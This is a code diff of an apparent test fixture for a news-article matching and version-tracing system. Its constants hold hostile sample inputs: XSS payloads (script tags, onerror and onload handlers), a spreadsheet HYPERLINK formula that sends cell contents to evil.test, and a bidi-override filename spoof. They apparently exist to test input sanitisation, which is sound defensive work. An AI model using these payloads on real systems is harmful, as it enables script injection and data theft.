@@ -19,7 +19,7 @@ WIRE, HONEST_WIRE, SELLER, OUTLET, FRINGE = (
     "lantern-wire.example", "sakura-pr.example", "placemart.example", "nanto-daily.example", "saitama-leaf.example",
 )  # fmt: skip
 BLIND = "kobe-shut.example"
-HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)>"
+HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script></svg>"
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
 BIDI = "safe\u202egnp.exe"
 
@@ -322,6 +322,20 @@ def _tracing(rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], st
     rows["text_matches"].append(
         {"match_id": make_id("m", a, b), "article_a": a, "article_b": b, "kind": "verbatim", "share_a": 1.0, "share_b": 1.0, "shared": len(BODY_JA),
          "spans": schema.dump([[0, len(BODY_JA), 0, len(BODY_JA)]]), "score": 1.0, "method": "alignment"}
+    )  # fmt: skip
+    a, b = sorted((article_id("wire_quay"), article_id("tokyo_quay")))
+    answering = [("312", "312", "number"), ("July 14", "7月14日", "date")]
+    placed = [[x, y, kind, BODY_EN.index(x), BODY_JA.index(y)] for x, y, kind in answering]
+    anchors = [row if a == article_id("wire_quay") else [row[1], row[0], row[2], row[4], row[3]] for row in placed]
+    rows["text_matches"].append(
+        {"match_id": make_id("m", a, b), "article_a": a, "article_b": b, "kind": "translated", "share_a": 0.9, "share_b": 0.9, "shared": 2,
+         "spans": schema.dump([]), "anchors": schema.dump(anchors), "score": 2.1, "method": "anchors"}
+    )  # fmt: skip
+    added = "\n第二回は中止された。発表は運営委員会による訂正である。市の広報も確認した。"
+    rows["version_changes"].append(
+        {"span_id": make_id("e", "tokyo_port"), "article_id": article_id("tokyo_port"), "version_id": version_id("tokyo_port", 2),
+         "before_id": version_id("tokyo_port"), "part": "text", "start_before": len(HARBOUR), "end_before": len(HARBOUR), "before": "",
+         "start": len(HARBOUR), "end": len(HARBOUR) + len(added), "after": added}
     )  # fmt: skip
 
 
